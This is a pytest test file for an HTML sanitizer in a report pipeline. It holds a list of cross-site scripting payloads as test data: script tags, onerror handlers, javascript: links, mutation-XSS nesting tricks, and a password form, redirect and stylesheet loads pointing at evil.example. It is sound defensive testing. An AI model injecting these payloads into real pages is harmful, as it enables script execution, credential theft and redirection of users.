"""Nothing that runs, loads or hides gets past the wall; tables and coloured words do."""

import pytest
from lxml import html as lxml_html

from nbpipe.report.clean import clean, fill, headline, markdown, plain

ATTACKS = [
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<img src='https://tracker.example/a.png'>",
    "<svg onload=document.title='owned'><script>1</script></svg>",
    "<a href='javascript:document.title=1'>x</a><a href='https://evil.example'>y</a>",
    "<a href='jav&#x0a;ascript:alert(1)'>x</a>",
    "</td></tr></table></div></section><b onclick=alert(1)>x</b>",
    "<iframe srcdoc='<script>1</script>'></iframe><object data=x></object><embed src=x>",
    "<form action='https://evil.example'><input name=password><button>log in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/a.css'><style>@import 'https://evil.example/b.css';</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<p style='background-color:url(https://evil.example/a)'>x</p>",
    "<p style='background-color:\\75 rl(https://evil.example/a);position:fixed;inset:0'>x</p>",
    "<p style='color:expression(alert(1));--x:1;background:red url(//evil.example)'>x</p>",
    "<p id=top class=verdict title='\"><script>1</script>'>x</p>",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("door", [clean, markdown])
def test_nothing_that_runs_or_loads_passes(door, attack: str) -> None:
    body = lxml_html.fromstring(f"<body>{door(attack)}</body>")
    tags = {element.tag for element in body.iter()}
    assert not tags & {"script", "img", "svg", "a", "iframe", "form", "input", "meta", "base", "link", "style"}
    names = {name for element in body.iter() for name in element.attrib}
    assert names <= {"style", "title"}
    styles = " ".join(element.get("style", "") for element in body.iter())
    assert not any(word in styles for word in ("url", "position", "expression", "--"))


def test_a_fragment_cannot_close_what_stands_around_it() -> None:
    assert clean("</td></table></div><b>x") == "<b>x</b>"


def test_what_a_browser_would_not_show_as_text_leaves_no_words() -> None:
    assert clean("<title>a</title><style>b</style><svg><text>c</text></svg>d") == "d"


def test_tables_and_coloured_words_pass_as_they_are() -> None:
    table = '<table><tbody><tr><td style="text-align:right" colspan="2">1</td></tr></tbody></table>'
    words = '<p><span style="background-color:rgba(0, 114, 178, 0.3)" title="+0.3">oven</span> <mark>x</mark></p>'
    assert clean(table) == table
    assert clean(words) == words


def test_html_inside_markdown_is_shown_and_not_obeyed() -> None:
    assert markdown("# A\n\n<b>x</b>") == "<h1>A</h1>\n<p>&lt;b&gt;x&lt;/b&gt;</p>\n"


def test_paths_in_html_keep_only_their_last_name() -> None:
    assert clean("<p>in /home/alice/x.pdf, not 1/2</p>") == "<p>in …/x.pdf, not 1/2</p>"
    assert markdown("in `/home/alice/x.pdf`") == "<p>in <code>…/x.pdf</code></p>\n"


def test_tags_that_are_shown_as_text_are_no_paths() -> None:
    assert markdown("</td></table></b>") == "<p>&lt;/td&gt;&lt;/table&gt;&lt;/b&gt;</p>\n"


def test_a_path_in_what_is_shown_on_hovering_keeps_only_its_last_name() -> None:
    assert clean('<b title="in /home/alice/x.pdf">a</b> 1>2 "') == '<b title="in …/x.pdf">a</b> 1&gt;2 "'


def test_markdown_tables_keep_their_alignment() -> None:
    assert '<td style="text-align:right">1</td>' in markdown("|a|\n|-:|\n|1|\n")


def test_colours_of_a_terminal_and_control_characters_are_taken_out() -> None:
    assert plain("\x1b[0;31mWorkError\x1b[0m: a\x00b\ud800") == "WorkError: a\ufffdb\ufffd"


@pytest.mark.parametrize("door", [clean, plain, lambda text: fill("problems.html", problems=[text])])
def test_text_that_would_turn_what_follows_is_made_visible(door) -> None:
    assert "invoice\ufffdfdp.exe" in door("invoice\u202efdp.exe")


def test_the_first_clause_of_a_verdict_is_its_headline() -> None:
    assert headline("Yes: 0.9 of <b>; fair. x") == "<b>Yes: 0.9 of &lt;b&gt;;</b> fair. x"
    assert headline("No.") == "<b>No.</b>"


def test_a_template_escapes_and_can_always_be_written() -> None:
    filled = fill("problems.html", problems=["<script>", "\ud800"])
    assert "<li>&lt;script&gt;</li><li>\ufffd</li>" in filled
